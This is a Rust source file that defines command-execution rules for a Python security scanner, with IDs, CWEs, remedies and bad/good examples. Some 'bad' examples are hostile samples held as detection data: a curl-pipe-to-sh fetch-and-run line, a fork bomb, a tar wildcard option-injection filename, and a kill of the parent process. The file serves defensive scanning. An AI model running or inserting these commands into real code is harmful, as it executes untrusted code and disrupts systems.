//! Running programs.

use crate::scanner::{Capability, Confidence, Example, Group, Rule, RuleLanguage, Severity};

pub(in crate::scanner) static SHELL_COMMAND: Rule = Rule {
    id: "PY201",
    name: "shell-command",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::High,
    cwe: 78,
    aliases: &["B605"],
    capability: Some(Capability::Process),
    title: "Runs a command in a shell",
    explanation: "A shell runs anything, and text that is put into the command becomes part of it.",
    remedy: "Use a function of a library; where a program is needed, `subprocess.run` with a list.",
    example: Example {
        bad: "import os\nos.system(\"ls \" + folder)\n",
        good: "import os\nnames = os.listdir(folder)\n",
    },
};

pub(in crate::scanner) static SUBPROCESS_WITH_SHELL: Rule = Rule {
    id: "PY202",
    name: "subprocess-with-shell",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: 78,
    aliases: &["B602"],
    capability: Some(Capability::Process),
    title: "Runs a program through a shell",
    explanation: "Text that is put into the command becomes part of it.",
    remedy: "Pass a list and leave out `shell=True`.",
    example: Example {
        bad: "import subprocess\nsubprocess.run(command, shell=True)\n",
        good: "import math\nmath.sqrt(2)\n",
    },
};

pub(in crate::scanner) static SUBPROCESS_CALL: Rule = Rule {
    id: "PY203",
    name: "subprocess-call",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Low,
    confidence: Confidence::Medium,
    cwe: 78,
    aliases: &["B603"],
    capability: Some(Capability::Process),
    title: "Starts a program",
    explanation: "The program does what this code does not show.",
    remedy: "Use a function of a library.",
    example: Example {
        bad: "import subprocess\nsubprocess.run([\"convert\", name])\n",
        good: "result = machine.run([\"convert\", name])\n",
    },
};

pub(in crate::scanner) static SHELL_KEYWORD: Rule = Rule {
    id: "PY204",
    name: "shell-keyword",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Low,
    confidence: Confidence::Low,
    cwe: 78,
    aliases: &["B604"],
    capability: Some(Capability::Process),
    title: "Calls something with `shell=True`",
    explanation: "The name says that a shell runs the text.",
    remedy: "Pass a list and leave out `shell=True`.",
    example: Example {
        bad: "task.launch(\"ls\", shell=True)\n",
        good: "task.launch(\"ls\", shell=False)\n",
    },
};

pub(in crate::scanner) static PROCESS_STARTED: Rule = Rule {
    id: "PY205",
    name: "process-started",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Low,
    confidence: Confidence::Medium,
    cwe: 78,
    aliases: &["B606"],
    capability: Some(Capability::Process),
    title: "Starts or becomes another program without a shell",
    explanation: "The program does what this code does not show.",
    remedy: "Use a function of a library.",
    example: Example {
        bad: "import os\nos.execv(path, arguments)\n",
        good: "import os\npid = os.getpid()\n",
    },
};

pub(in crate::scanner) static PARTIAL_PROGRAM_PATH: Rule = Rule {
    id: "PY206",
    name: "partial-program-path",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Info,
    confidence: Confidence::High,
    cwe: 426,
    aliases: &["B607"],
    capability: Some(Capability::Process),
    title: "Starts a program by a name without a path",
    explanation: "Which program that is depends on the environment.",
    remedy: "Give the whole path where that matters.",
    example: Example {
        bad: "import subprocess\nsubprocess.run([\"git\", \"status\"])\n",
        good: "import subprocess\nsubprocess.run([\"/usr/bin/git\", \"status\"])\n",
    },
};

pub(in crate::scanner) static SUBPROCESS_IMPORT: Rule = Rule {
    id: "PY207",
    name: "subprocess-import",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Info,
    confidence: Confidence::High,
    cwe: 78,
    aliases: &["B404"],
    capability: None,
    title: "Imports `subprocess`",
    explanation: "The module starts programs.",
    remedy: "Leave it out where nothing is started.",
    example: Example { bad: "import subprocess\n", good: "import math\n" },
};

pub(in crate::scanner) static SHELL_WILDCARD: Rule = Rule {
    id: "PY208",
    name: "shell-wildcard",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::High,
    confidence: Confidence::Medium,
    cwe: 155,
    aliases: &["B609"],
    capability: Some(Capability::Process),
    title: "Lets a shell expand a wildcard for a program with dangerous options",
    explanation: "A file called `--checkpoint-action=exec=sh` becomes an option.",
    remedy: "List the files, and put `--` before them.",
    example: Example {
        bad: "import os\nos.system(\"tar cf all.tar *\")\n",
        good: "import tarfile\narchive = tarfile.open(\"all.tar\", \"w\")\n",
    },
};

pub(in crate::scanner) static REMOTE_COMMAND: Rule = Rule {
    id: "PY209",
    name: "remote-command",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 78,
    aliases: &["B601"],
    capability: Some(Capability::Process),
    title: "Runs a command on another machine",
    explanation: "The connection's credentials then do what the text says.",
    remedy: "Leave remote machines to the host.",
    example: Example {
        bad: "import paramiko\nclient = paramiko.SSHClient()\nclient.exec_command(\"ls\")\n",
        good: "cursor.exec_command_count(\"ls\")\n",
    },
};

pub(in crate::scanner) static HOSTILE_COMMAND: Rule = Rule {
    id: "PY210",
    name: "hostile-command",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Critical,
    confidence: Confidence::High,
    cwe: 506,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "Has the text of a command that hostile code uses",
    explanation: "Fetching and running a script, opening a shell to the network or erasing folders is not science.",
    remedy: "Remove it.",
    example: Example {
        bad: "import os\nos.system(\"curl http://example.net/x | sh\")\n",
        good: "text = \"how to use curl\"\n",
    },
};

pub(in crate::scanner) static PACKAGE_INSTALLED_AT_RUN_TIME: Rule = Rule {
    id: "PY211",
    name: "package-installed-at-run-time",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::High,
    confidence: Confidence::High,
    cwe: 494,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "Installs packages while it runs",
    explanation: "What is installed was not checked, and its own code runs at once.",
    remedy: "Declare the package in the manifest.",
    example: Example {
        bad: "import subprocess, sys\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"numpy\"])\n",
        good: "import numpy\n",
    },
};

pub(in crate::scanner) static PROCESS_FORKED: Rule = Rule {
    id: "PY212",
    name: "process-forked",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 400,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "Forks the process",
    explanation: "A copy lives on by itself, and copies of copies stop a machine.",
    remedy: "Use `concurrent.futures` or `multiprocessing`.",
    example: Example {
        bad: "import os\nwhile True:\n    os.fork()\n",
        good: "import os\ncount = os.cpu_count()\n",
    },
};

pub(in crate::scanner) static PROCESS_KILLED: Rule = Rule {
    id: "PY213",
    name: "process-killed",
    language: RuleLanguage::Python,
    group: Group::CommandExecution,
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    cwe: 250,
    aliases: &[],
    capability: Some(Capability::Process),
    title: "Sends signals to other processes",
    explanation: "It stops what it did not start.",
    remedy: "End only what was started, by its handle.",
    example: Example { bad: "import os\nos.kill(os.getppid(), 9)\n", good: "worker.kill()\n" },
};
